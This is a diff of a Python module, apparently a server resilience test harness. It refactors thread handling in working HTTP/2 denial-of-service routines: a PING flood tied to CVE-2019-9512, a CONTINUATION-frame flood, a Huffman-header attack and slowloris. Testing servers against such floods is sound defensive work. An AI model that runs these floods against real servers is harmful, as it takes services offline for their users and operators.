@@ -54,15 +54,19 @@ def _send_until(sock: socket.socket, chunk: bytes, stop: EventLike) -> None:
                 return
 
 
-def ping_flood(port: int, stop: EventLike) -> None:
-    """10 connections send PINGs as fast as they can and never read the PONGs (CVE-2019-9512)."""
-    socks = [_connect(port) for _ in range(10)]
-    threads = [threading.Thread(target=_send_until, args=(s, frame(PING, 0, 0, b"12345678") * 4000, stop))
-               for s in socks]
+def _run_all(threads: list[threading.Thread]) -> None:
+    """Start the attacker's threads and wait for them (they end on `stop` or the server's close)."""
     for t in threads:
         t.start()
     for t in threads:
         t.join()
+
+
+def ping_flood(port: int, stop: EventLike) -> None:
+    """10 connections send PINGs as fast as they can and never read the PONGs (CVE-2019-9512)."""
+    socks = [_connect(port) for _ in range(10)]
+    _run_all([threading.Thread(target=_send_until, args=(s, frame(PING, 0, 0, b"12345678") * 4000, stop))
+              for s in socks])
     for s in socks:
         s.close()
 
@@ -111,11 +115,7 @@ def distinct_huffman(port: int, stop: EventLike) -> None:
             except OSError:
                 time.sleep(0.05)
 
-    threads = [threading.Thread(target=one) for _ in range(4)]
-    for t in threads:
-        t.start()
-    for t in threads:
-        t.join()
+    _run_all([threading.Thread(target=one) for _ in range(4)])
 
 
 def continuation_flood(port: int, stop: EventLike) -> None:
@@ -125,20 +125,14 @@ def continuation_flood(port: int, stop: EventLike) -> None:
     def one() -> None:
         while not stop.is_set():
             try:
-                sock = _connect(port)
-                sock.sendall(frame(HEADERS, 0, 1, block))
-                for _ in range(2000):
-                    sock.sendall(frame(CONTINUATION, 0, 1, b"\x00" * 1000))
-            except OSError:
+                with _connect(port) as sock:
+                    sock.sendall(frame(HEADERS, 0, 1, block))
+                    for _ in range(2000):
+                        sock.sendall(frame(CONTINUATION, 0, 1, b"\x00" * 1000))
+            except OSError:  # the server's GOAWAY and close: the next connection
                 pass
-            with contextlib.suppress(NameError, OSError):
-                sock.close()
 
-    threads = [threading.Thread(target=one) for _ in range(4)]
-    for t in threads:
-        t.start()
-    for t in threads:
-        t.join()
+    _run_all([threading.Thread(target=one) for _ in range(4)])
 
 
 def slowloris(port: int, stop: EventLike) -> None:
